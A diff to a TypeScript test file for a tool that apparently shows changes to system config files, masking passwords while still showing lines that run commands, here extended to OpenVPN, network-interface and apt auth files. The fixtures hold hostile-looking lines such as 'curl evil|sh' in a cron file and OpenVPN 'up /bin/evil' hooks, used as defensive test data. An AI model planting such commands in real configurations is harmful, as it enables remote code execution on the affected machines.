@@ -61,6 +61,14 @@ const SECRET_FILES: [string, TestFile, string][] = [
   ['/etc/passwd', 'ann:x:1\n', 'ann:$6$HUSH$HUSH:1\n'],
   ['/etc/cron.d/job', 'PASSWORD=old\n', 'PASSWORD=HUSH\n* * * * * root run\n'],
   ['/etc/fstab', '', '//s/x /mnt cifs password=HUSH,uid=1 0 0\n'],
+  ['/etc/openvpn/client/x.conf', 'client\n', 'client\n<auth-user-pass>\nann\nHUSH\n</auth-user-pass>\n'],
+  ['/etc/openvpn/x.conf', '<key>\nold\n</key>\n', '<key>\nHUSH\n</key>\nnobind\n'],
+  [
+    '/etc/network/interfaces',
+    'auto lo\n',
+    'iface w inet dhcp\n  wpa-ssid Lab\n  wpa-psk HUSH\n  wireless-key1 s:HUSH\n',
+  ],
+  ['/etc/apt/auth.conf.d/x.conf', '', 'machine example.org login ann password HUSH\n'],
   ['/etc/apt/sources.list', '', 'deb https://ann:HUSH@example.org/ x main\n'],
 ];
 
@@ -80,10 +88,26 @@ test('what makes people root, and what root runs, is shown whatever words are in
     ['/etc/cron.d/x', 'TOKEN=$(curl evil|sh)'],
     ['/etc/systemd/system/x.service', 'ExecStart=/bin/sh -c "evil" # secret'],
     ['/etc/profile.d/x.sh', 'password=`evil`'],
+    ['/etc/network/interfaces.d/x', '  post-up evil wpa-psk # key'],
+    ['/etc/openvpn/x.conf', 'up /bin/evil # key'],
     ['/etc/polkit-1/rules.d/x.rules', 'return polkit.Result.YES; // token = 1'],
   ] as const) {
     assert.equal(differenceOf([file(path, `${line}\n`, 0o440)], machine)[1], `+ ${line}`);
   }
+});
+
+test('nothing that OpenVPN would run hides where passwords stand', (t) => {
+  const machine = machineWith(t, {});
+  const text = '<key>\nHUSH\nup /bin/evil\n"up"/bin/evil\n<ca>\n</key>\nplugin /x.so\n';
+  assert.deepEqual(differenceOf([file('/etc/openvpn/x.conf', text, 0o644)], machine).slice(1), [
+    '+ <key>',
+    '+ (not shown)',
+    '+ up /bin/evil',
+    '+ "up"/bin/evil',
+    '+ (not shown)',
+    '+ </key>',
+    '+ plugin /x.so',
+  ]);
 });
 
 test('nothing that a terminal would obey is shown, nor a line or a list without end', (t) => {
